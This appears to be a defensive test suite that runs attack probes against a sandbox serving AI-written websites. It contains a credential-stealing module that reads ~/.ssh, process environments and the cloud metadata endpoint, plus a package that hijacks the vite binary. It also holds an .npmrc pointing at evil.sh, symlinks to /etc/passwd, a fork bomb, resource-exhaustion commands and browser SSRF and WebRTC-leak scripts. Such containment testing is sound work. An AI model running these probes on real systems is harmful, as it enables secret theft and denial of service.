import { deepEqual, equal, match, ok } from "node:assert/strict";
import { createSocket } from "node:dgram";
import { once } from "node:events";
import { readdirSync } from "node:fs";
import { readFile, writeFile } from "node:fs/promises";
import { createServer } from "node:http";
import { networkInterfaces } from "node:os";
import { join } from "node:path";
import type { Browser } from "../../pipeline/browser/site-page.ts";
import type { BoxLimits } from "../../pipeline/site/sandbox/sandbox.ts";
import type { ServedSite, SiteSlot } from "../../pipeline/site/site-slot.ts";
import { fetchThroughProxy } from "../site/fetch-through-proxy.ts";
import { manifest, siteFiles } from "../site/site-files.ts";
import type { PublishedPackage } from "../support/package-registry.ts";

/** What a probe gets: a slot to attack from, the browser that looks at it, and a folder of its own on this machine. */
export interface SiteProbeContext {
  slot: SiteSlot;
  browser: Browser;
  dir: string;
  /** address of the registry that the packages come from */
  registry: string;
}

/** One attack by what a model writes, on the whole of slot, sandbox and browser. Rejects when it is not contained. */
export interface SiteProbe {
  /** as the containment table of docs/sandbox.md has it */
  name: string;
  run: (context: SiteProbeContext) => Promise<void>;
}

/** Small, so that meeting them costs little. */
export const probeLimits: BoxLimits = {
  processes: 128,
  memoryBytes: 400 * 2 ** 20,
  diskBytes: 2 ** 26,
  fileBytes: 2 ** 30,
  outputBytes: 2 ** 22,
  // the neighbour lives as long as all the attacks together
  wallMs: 15 * 60_000,
};

const never = new AbortController().signal;
/** Looks for whatever a thief would, and prints what was found. */
const thief = `
import { execSync } from "node:child_process";
import { readdirSync, readFileSync, writeFileSync } from "node:fs";
import { connect } from "node:net";
const tryTo = (act) => { try { return String(act()); } catch (error) { return "refused " + error.code; } };
const reach = (port, host) => new Promise((done) => { const s = connect(port, host, () => done("REACHED " + host)).on("error", (e) => done("refused " + e.code)); setTimeout(() => { s.destroy(); done("refused late"); }, 1000); });
export async function steal(secret, registry) {
  const { hostname, port } = new URL(registry);
  return [
    tryTo(() => readFileSync(secret)), tryTo(() => readdirSync(process.env.HOME + "/.ssh")),
    tryTo(() => execSync("cat /proc/*/environ; true", { stdio: ["ignore", "pipe", "ignore"] })), JSON.stringify(process.env),
    tryTo(() => writeFileSync("/app/node_modules/planted", "")), tryTo(() => writeFileSync("/usr/planted", "")),
    await reach(port, hostname), await reach(4873, "127.0.0.1"), await reach(80, "169.254.169.254"),
  ].join("\\n");
}`;
const serveText = (expression: string) =>
  `import { createServer } from "node:http"; const text = ${expression}; createServer((q, r) => r.setHeader("content-type", "text/html").end("<pre>" + text + "</pre>")).listen(3000);`;

/** Packages of the registry that the probes install from. */
export const hostilePackages: PublishedPackage[] = [
  {
    manifest: { name: "scripted", scripts: { postinstall: "touch /app/ran ran; echo ran > ran" } },
    files: { "index.js": "" },
  },
  {
    manifest: {
      name: "sqlite3",
      scripts: { install: "node-gyp rebuild" },
    },
    files: {
      "index.js":
        'throw new Error("Could not locate the bindings file. Tried: /app/node_modules/sqlite3/build/node_sqlite3.node");',
    },
  },
  {
    manifest: { name: "by-git", dependencies: { inner: "git+https://127.0.0.1:1/owner/inner.git" } },
    files: { "index.js": "" },
  },
  {
    manifest: { name: "by-address", dependencies: { inner: "http://127.0.0.1:1/inner.tgz" } },
    files: { "index.js": "" },
  },
  {
    // its program takes the place of Vite's
    manifest: { name: "helper", bin: { vite: "vite.mjs" }, type: "module" },
    files: {
      "vite.mjs": `#!/usr/bin/env node\n${thief}\n${serveText("await steal(process.argv[2], process.argv[3])")}`,
    },
  },
];

export const siteProbes: SiteProbe[] = [
  {
    name: "an install script",
    run: async ({ slot }) => {
      const served = await serve(slot, {
        "package.json": manifest({ scripts: { start: "node s.mjs" }, dependencies: { scripted: "1.0.0" } }),
        "s.mjs": `import { readdirSync } from "node:fs"; ${serveText('readdirSync("node_modules/scripted") + " " + readdirSync(".")')}`,
      });
      equal(await textOf(slot, served), "<pre>index.js,package.json node_modules,package.json,s.mjs</pre>");
    },
  },
  {
    name: "a package that does not work without its script",
    run: async ({ slot }) => {
      const served = await serve(slot, {
        "package.json": manifest({ scripts: { start: "node s.cjs" }, dependencies: { sqlite3: "1.0.0" } }),
        "s.cjs": 'require("sqlite3");',
      });
      match(reasonOf(served, "start"), /sqlite3@1\.0\.0 needs a script.*do not run here.*node:sqlite/);
    },
  },
  {
    name: ".npmrc with git=, git dependencies and other addresses",
    run: async ({ slot }) => {
      const npmrc = "git=./evil.sh\nignore-scripts=false\nregistry=http://127.0.0.1:1/\n";
      const evil = "#!/bin/sh\ntouch /app/ran\n";
      const direct = await serve(slot, {
        ...{ ".npmrc": npmrc, "evil.sh": evil },
        "package.json": manifest({ dependencies: { inner: "git+https://127.0.0.1:1/owner/inner.git" } }),
      });
      match(reasonOf(direct, "install"), /"inner".*does not come from the npm registry/);
      for (const name of ["by-git", "by-address"]) {
        const indirect = await serve(slot, {
          ...{ ".npmrc": npmrc, "evil.sh": evil },
          "package.json": manifest({ dependencies: { [name]: "1.0.0" } }),
        });
        match(
          reasonOf(indirect, "install"),
          /which one of the dependencies wants, does not come from the npm registry.*leave out/,
        );
      }
      const nested = await serve(slot, {
        ...{ ".npmrc": npmrc, "evil.sh": evil },
        "package.json": manifest({
          scripts: { start: "npm install --fetch-retries=0 scripted by-git; node s.mjs" },
        }),
        "s.mjs": `import { existsSync } from "node:fs"; ${serveText('existsSync("/app/ran") || existsSync("/app/node_modules/inner")')}`,
      });
      equal(await textOf(slot, nested), "<pre>false</pre>");
    },
  },
  {
    name: "a dependency that replaces vite with hostile code",
    run: async ({ slot, dir, registry }) => {
      const secret = join(dir, "secret");
      await writeFile(secret, "top-secret");
      const served = await serve(slot, {
        "package.json": manifest({
          scripts: { dev: `vite ${secret} ${registry}` },
          dependencies: { helper: "1.0.0" },
        }),
      });
      const found = await textOf(slot, served);
      ok(!/top-secret|REACHED|VITEST/.test(found), found);
      equal(found.match(/refused/g)?.length, 7, found);
    },
  },
  {
    name: "the registry at serve time",
    run: async ({ slot, dir, registry }) => {
      const served = await serve(slot, {
        "package.json": manifest({ scripts: { start: "node s.mjs" } }),
        "thief.mjs": thief,
        "s.mjs": `import { steal } from "./thief.mjs"; ${serveText(`await steal("${dir}/none", "${registry}")`)}`,
      });
      const found = await textOf(slot, served);
      ok(!found.includes("REACHED"), found);
      match(found, /refused/);
    },
  },
  {
    name: "links planted for the outside",
    run: async ({ slot, dir }) => {
      const victim = join(dir, "victim");
      await writeFile(victim, "unharmed", { mode: 0o666 });
      const plant = `ln -s ${dir} src; rm -f index.html; ln -s ${victim} index.html; ln -s /etc/passwd page.html`;
      const site = (text: string) => ({
        "package.json": manifest({ scripts: { start: `${plant}; node s.mjs` } }),
        "s.mjs": serveText("1"),
        "index.html": text,
      });
      await serve(slot, site("first"));
      const served = await serve(slot, { ...site("second"), "src/victim": "harmed" });
      equal(served.start.status, "ok");
      equal(await readFile(victim, "utf8"), "unharmed");
      deepEqual(readdirSync(dir), ["victim"]);
    },
  },
  ...(
    [
      [
        "a fork bomb, told to the model",
        "bomb() { bomb | bomb & }; bomb; sleep 30",
        /more than 128 processes/,
      ],
      [
        "10 GB in one process, told to the model",
        "head -c 10000000000 /dev/zero | tail",
        /more than 400 MB of memory/,
      ],
      [
        "10 GB in four processes, told to the model",
        "for i in 1 2 3 4; do (head -c 150000000 /dev/zero; sleep 30) | tail & done; wait",
        /more than 400 MB of memory/,
      ],
      [
        "filling the disk, told to the model",
        "i=0; while head -c 1000000 /dev/zero > f$i; do i=$((i+1)); sleep 0.01; done",
        /more than 64 MB into the project/,
      ],
      ["endless output, told to the model", "yes", /printed more than 4 MB/],
    ] as const
  ).map(
    ([name, command, reason]): SiteProbe => ({
      name,
      run: async ({ slot }) => {
        const served = await serve(slot, {
          "package.json": manifest({ scripts: { start: `bash -c '${command}'` } }),
        });
        match(reasonOf(served, "start"), reason);
      },
    }),
  ),
  {
    name: "a page that asks for services and files of this machine",
    run: async ({ slot, browser }) => {
      await using service = await listen();
      const { address } = machineAddress();
      const asked = [
        ...["127.0.0.1", "localhost", "[::1]", address].map((host) => `http://${host}:${service.port}/`),
        ...["http://169.254.169.254/latest/", "https://example.com/", "file:///etc/passwd"],
      ];
      const script = `
        const ask = (url) => fetch(url, { mode: "no-cors" }).then((answer) => answer.text()).catch(() => "");
        const all = (await Promise.all(${JSON.stringify(asked)}.map(ask))).join("");
        const frame = document.createElement("iframe"); frame.src = "file:///etc/passwd"; document.body.append(frame);
        const image = new Image(); image.src = "http://${address}:${service.port}/image"; await image.decode().catch(() => 0);
        return all.includes("host service") || all.includes("root:");`;
      equal(await resultOf(script, { slot, browser }), "false");
      deepEqual(service.asked, []);
      deepEqual(slot.takeBlockedHosts(), [address, "169.254.169.254", "example.com"].sort());
    },
  },
  {
    name: "a page that opens websockets to services and neighbours",
    run: async ({ slot, browser }) => {
      await using service = await listen();
      const { address } = machineAddress();
      const targets = ["127.0.0.1", "localhost", address].map((host) => `ws://${host}:${service.port}/`);
      const script = `
        const open = (url) => new Promise((done) => { const s = new WebSocket(url); s.onopen = () => done("open"); s.onerror = () => done("refused"); });
        const neighbour = await (await fetch("http://localhost:3000/")).text();
        return (await Promise.all(${JSON.stringify(targets)}.map(open))).join() + neighbour.includes("<h1>Neigh" + "bour");`;
      equal(await resultOf(script, { slot, browser }), "refused,refused,refusedfalse");
      deepEqual(service.asked, []);
    },
  },
  {
    name: "a page that asks STUN servers who it is (WebRTC)",
    run: async ({ slot, browser }) => {
      const { address } = machineAddress();
      const packets: string[] = [];
      await using stun = await listenForPackets((from) => packets.push(from));
      const script = `
        const servers = ["127.0.0.1", "${address}"].map((host) => ({ urls: ["stun:" + host + ":${stun.port}", "turn:" + host + ":${stun.port}"], username: "u", credential: "c" }));
        const peer = new RTCPeerConnection({ iceServers: servers }); const found = [];
        peer.createDataChannel("x"); peer.onicecandidate = ({ candidate }) => candidate && found.push(candidate.candidate);
        await peer.setLocalDescription(await peer.createOffer());
        await new Promise((done) => { const look = () => peer.iceGatheringState === "complete" && done(); peer.onicegatheringstatechange = look; look(); });
        return found.join().includes("${address}");`;
      equal(await resultOf(script, { slot, browser }), "false");
      deepEqual(packets, []);
    },
  },
  {
    name: "a page with pop-ups and downloads without end",
    run: async ({ slot, browser, dir }) => {
      const script = `
        for (let i = 0; i < 30; i++) window.open("/next.html", "w" + i, "popup");
        for (let i = 0; i < 30; i++) { const a = document.createElement("a"); a.href = URL.createObjectURL(new Blob(["x"])); a.download = "loot" + i; a.click(); }
        return "still here";`;
      const next = { "next.html": "<button>result:the next page</button>" };
      match(await resultOf(script, { slot, browser }, next), /^(?:still here|the next page)$/);
      const left = readdirSync(join(dir, ".."), { recursive: true }).filter((path) =>
        /loot/.test(String(path)),
      );
      deepEqual(left, []);
    },
  },
  {
    name: "a page that plants a service worker for the next",
    run: async ({ slot, browser }) => {
      const worker =
        'self.addEventListener("fetch", (event) => event.respondWith(new Response("from the worker")));';
      const script = `
        await Promise.race([navigator.serviceWorker?.register("/worker.js").catch(() => 0), new Promise((done) => setTimeout(done, 500))]);
        return (await (await fetch("/data.txt")).text()) + (await navigator.serviceWorker?.getRegistrations?.())?.length;`;
      for (let round = 0; round < 2; round++) {
        const result = await resultOf(script, { slot, browser }, { "worker.js": worker, "data.txt": "data" });
        match(result, /^data(?:0|undefined)$/);
      }
    },
  },
];

function serve(slot: SiteSlot, texts: Record<string, string>): Promise<ServedSite> {
  return slot.serve(siteFiles(texts), never);
}

async function textOf(slot: SiteSlot, served: ServedSite): Promise<string> {
  if (served.url === null) throw new Error(`not served: ${JSON.stringify(served)}`);
  return (await fetchThroughProxy(slot.proxyServer, served.url)).body;
}

function reasonOf(served: ServedSite, stage: "install" | "start"): string {
  const outcome = served[stage];
  if (outcome.status !== "failed") throw new Error(`it did not fail: ${JSON.stringify(served)}`);
  return outcome.reason;
}

/** Runs the body of an async function in a page of the slot, and gives what it returned as text. */
async function resultOf(
  script: string,
  { slot, browser }: Pick<SiteProbeContext, "slot" | "browser">,
  files: Record<string, string> = {},
): Promise<string> {
  slot.takeBlockedHosts();
  const html = `<!doctype html><button id="out">running</button><script type="module">
    const attack = async () => { ${script} };
    out.textContent = "result:" + (await attack().catch(String));</script>`;
  const { url } = await serve(slot, { ...files, "index.html": html });
  await using page = await browser.openPage({
    ...{ url: url ?? "", proxyServer: slot.proxyServer, signal: never },
  });
  for (let round = 0; round < 30; round++) {
    const text = (await page.observe()).elements.map((element) => element.text).join();
    if (text.startsWith("result:")) return text.slice("result:".length);
    await new Promise((resolve) => setTimeout(resolve, 200));
  }
  throw new Error(`the page came to no end: ${JSON.stringify(page.problems())}`);
}

/** An address of this machine that is not loopback; loopback's second where there is no other. */
function machineAddress(): { address: string } {
  const addresses = Object.values(networkInterfaces()).flatMap((list) => list ?? []);
  return addresses.find(({ internal, family }) => !internal && family === "IPv4") ?? { address: "127.0.0.2" };
}

/** A service of this machine, on all its addresses. */
async function listen(): Promise<AsyncDisposable & { port: number; asked: string[] }> {
  const asked: string[] = [];
  const server = createServer((request, response) => {
    asked.push(request.url ?? "");
    response.setHeader("access-control-allow-origin", "*").end("host service");
  });
  server.on("upgrade", (request, socket) => {
    asked.push(`websocket ${request.url}`);
    socket.destroy();
  });
  server.listen(0);
  await once(server, "listening");
  const address = server.address();
  return {
    port: typeof address === "object" && address ? address.port : 0,
    asked,
    [Symbol.asyncDispose]: async () => {
      server.closeAllConnections();
      server.close();
    },
  };
}

async function listenForPackets(
  onPacket: (from: string) => void,
): Promise<AsyncDisposable & { port: number }> {
  const socket = createSocket("udp4", (_, { address }) => onPacket(address));
  socket.bind(0);
  await once(socket, "listening");
  return { port: socket.address().port, [Symbol.asyncDispose]: async () => void socket.close() };
}
